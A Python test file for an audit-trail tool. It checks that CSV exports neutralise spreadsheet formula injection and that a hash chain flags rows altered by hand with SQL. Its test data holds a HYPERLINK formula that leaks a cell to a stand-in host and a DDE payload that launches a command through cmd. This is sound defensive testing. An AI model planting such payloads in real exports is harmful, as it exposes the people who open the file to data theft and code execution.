"""The audit trail as evidence: its CSV export is safe to open in a spreadsheet (hostile cells neutralized,
JSONL exact), and its hash chain names the first row changed, added or removed by hand with SQL, on SQLite
and on PostgreSQL; a store from before the chain still opens and its old rows read as unchained."""

from __future__ import annotations

import csv
import io
import json
import shutil
import sqlite3

import pytest
from app_helpers import ROOT, catch_downloads, lab_env
from sqlalchemy import text
from typer.testing import CliRunner

from rods_core.spreadsheet import csv_text, safe_cell
from rods_lab.cli import app as cli
from storage.control import ControlDB

HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"ok")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_safe_cell_follows_owasp_and_leaves_numbers_alone():
    for hostile in ("=1+1", "+1", "-2+3", "@A1", "\tx", "\rx"):
        assert safe_cell(hostile) == "'" + hostile
    assert [safe_cell(v) for v in ("ana", "a=b", "", -3, 2.5, None)] == ["ana", "a=b", "", -3, 2.5, None]
    rows = list(csv.reader(io.StringIO(csv_text([{"a": HYPERLINK, "b": -1}], ["a", "b"]))))
    assert rows == [["a", "b"], ["'" + HYPERLINK, "-1"]]


def _hostile_run(db: ControlDB) -> None:
    db.create_run("r", "runs/r")
    db.add_decisions("r", [("t1", "approve", None)], HYPERLINK, DDE, seen_step=3)


def test_the_audit_csv_neutralizes_hostile_cells_and_jsonl_keeps_them(tmp_path):
    db = ControlDB(tmp_path / "c.sqlite")
    _hostile_run(db)
    where = ["--db", str(db.path)]
    for name in ("audit.csv", "audit.jsonl"):
        result = CliRunner().invoke(cli, ["runs", "audit", "r", "--out", str(tmp_path / name), *where])
        assert result.exit_code == 0, result.output
    (row,) = csv.DictReader(io.StringIO((tmp_path / "audit.csv").read_text()))
    assert (row["reviewer"], row["comment"]) == ("'" + HYPERLINK, "'" + DDE)
    (line,) = [json.loads(x) for x in (tmp_path / "audit.jsonl").read_text().splitlines()]
    assert (line["reviewer"], line["comment"]) == (HYPERLINK, DDE)


def test_the_review_pages_csv_download_neutralizes_hostile_cells(tmp_path, monkeypatch):
    """The bytes the page hands its download button, caught where Streamlit stores them (no substitute)."""
    import streamlit as st
    from streamlit.testing.v1 import AppTest

    from bench.review_bench import build_review_run

    stored = catch_downloads(monkeypatch)
    ws, runs = tmp_path / "ws", tmp_path / "runs"
    with lab_env(ws, runs):
        build_review_run(ws, runs, "hostile", 2)
        db = ControlDB(ws / "control.sqlite")
        db.add_decisions("hostile", [("t1", "approve", None)], HYPERLINK, DDE, seen_step=1)
        st.cache_data.clear()
        st.cache_resource.clear()
        at = AppTest.from_file(str(ROOT / "pages/3_Review.py"), default_timeout=120)
        at.session_state["lab_run"], at.session_state["review_reviewer"] = "hostile", "ana"
        at.run()
    assert not at.exception
    (row,) = csv.DictReader(io.StringIO(stored["hostile-audit.csv"].decode()))
    assert (row["reviewer"], row["comment"]) == ("'" + HYPERLINK, "'" + DDE)
    (line,) = [json.loads(x) for x in stored["hostile-audit.jsonl"].decode().splitlines()]
    assert (line["reviewer"], line["comment"]) == (HYPERLINK, DDE)


# ----- the hash chain ---------------------------------------------------------------------------------
def by_hand(db: ControlDB, sql: str) -> None:
    """Edit the store as someone with the file (SQLite, through sqlite3) or the server (PostgreSQL) would."""
    if db.path is not None:
        con = sqlite3.connect(db.path)
        con.execute(sql)
        con.commit()
        con.close()
        return
    with db.engine.connect() as conn:
        conn.execute(text(sql))
        conn.commit()


def verify(db: ControlDB, run_id: str = "r"):
    return CliRunner().invoke(cli, ["runs", "audit", run_id, "--verify", "--db", db.url])


@pytest.fixture
def trail(store):
    """A run with two batches, a claim and outcomes: decisions 1-3, events 1-8 (1: the launch)."""
    db = ControlDB(store)
    db.create_run("r", "runs/r")
    first = db.add_decisions("r", [("t1", "approve", None), ("t2", "reject", None)], "ana@lab.example", "ok", 3)
    db.claim_decisions("r")
    db.mark_decision(first[0].id, "applied", "approved: it will be probed", step=4)
    db.mark_decision(first[1].id, "refused", "t2 is a seed", step=4)
    db.add_decisions("r", [("t3", "approve", None)], "bo@lab.example", seen_step=4)
    db.create_run("other", "runs/other")  # another run's trail is a chain of its own
    db.add_decisions("other", [("u", "approve", None)], "bo@lab.example")
    return db


def test_an_untouched_trail_verifies(trail):
    result = verify(trail)
    assert result.exit_code == 0, result.output
    assert "intact, 8 chained event(s)" in result.output
    assert verify(trail, "other").exit_code == 0


TAMPERING = {
    "decision changed": (
        "UPDATE decisions SET author = 'eve@lab.example' WHERE id = 1",
        "decisions row 1 (task t1): changed by hand",
    ),
    "outcome changed": ("UPDATE decisions SET status = 'applied' WHERE id = 2", "decisions row 2 (task t2): changed"),
    "event changed": ("UPDATE decision_events SET reason = 'fine' WHERE id = 6", "decision_events row 6"),
    "event added": (
        "INSERT INTO decision_events (decision_id, run_id, kind, actor) VALUES (2, 'r', 'applied', 'eve')",
        "decision_events row 11 (decision 2): added by hand",
    ),
    "decision added": (
        "INSERT INTO decisions (run_id, task_id, action, author, status) VALUES ('r', 't9', 'approve', 'eve', 'pending')",
        "task t9): added by hand",
    ),
    "event removed": ("DELETE FROM decision_events WHERE id = 4", "row 5 (decision 2, claimed by pid:"),
    "decision removed": ("DELETE FROM decisions WHERE id = 3", "decisions row 3: removed by hand"),
}


@pytest.mark.parametrize("case", TAMPERING)
def test_verify_names_the_first_row_edited_by_hand(trail, case):
    sql, named = TAMPERING[case]
    by_hand(trail, sql)
    result = verify(trail)
    assert result.exit_code == 2, result.output
    assert "edited by hand" in result.output and named in result.output, result.output
    assert "Traceback" not in result.output


def test_a_store_from_before_the_chain_opens_and_reads_unchained(store):
    db = ControlDB(store)
    db.create_run("r", "runs/r")
    db.add_decisions("r", [("t1", "approve", None), ("t2", "reject", None)], "ana@lab.example")
    db.claim_decisions("r")
    for column in ("digest", "prev_hash", "row_hash", "seq", "key_id"):  # the table as an earlier version made it
        by_hand(db, f"ALTER TABLE decision_events DROP COLUMN {column}")
    shutil.rmtree(db.keys.folder / "heads" / db.keys.store_tag)  # an earlier version recorded no heads
    for table, column in (("runs", "launched_by"), ("runs", "stopped_by"), ("seeds", "edited_by")):
        by_hand(db, f"ALTER TABLE {table} DROP COLUMN {column}")
    db.engine.dispose()
    again = ControlDB(store)
    report = again.verify_audit("r")
    assert (report.ok, report.checked, report.unchained) == (True, 0, 5)
    (d,) = again.add_decisions("r", [("t3", "approve", None)], "bo@lab.example")
    again.mark_decision(d.id, "applied", "ok", step=2)
    report = again.verify_audit("r")
    assert (report.ok, report.checked, report.unchained) == (True, 2, 5)
    assert again.get_run("r").launched_by is None
    by_hand(again, f"UPDATE decisions SET author = 'eve' WHERE id = {d.id}")
    assert "decisions row 3 (task t3): changed by hand" in (again.verify_audit("r").problem or "")


def test_a_rotated_key_signs_new_events_and_old_ones_still_verify(tmp_path, monkeypatch):
    monkeypatch.setenv("RODS_AUDIT_DIR", str(tmp_path / "audit"))
    db = ControlDB(tmp_path / "c.sqlite")
    assert not (tmp_path / "audit" / "keys").exists()  # opening (or verifying) makes no key; the first write does
    db.create_run("r", "runs/r")
    old = db.keys.signing()[0]
    assert oct((tmp_path / "audit" / "keys").stat().st_mode & 0o777) == "0o600"
    new = db.keys.rotate_key()
    db.add_decisions("r", [("t1", "approve", None)], "ana@lab.example")
    assert [e.key_id for e in db.decision_events("r")] == [old, new] and db.verify_audit("r").ok
    lines = (tmp_path / "audit" / "keys").read_text().splitlines()
    (tmp_path / "audit" / "keys").write_text(lines[1] + "\n")  # the old key removed: its events no longer verify
    assert "signed with key" in (ControlDB(tmp_path / "c.sqlite").verify_audit("r").problem or "")
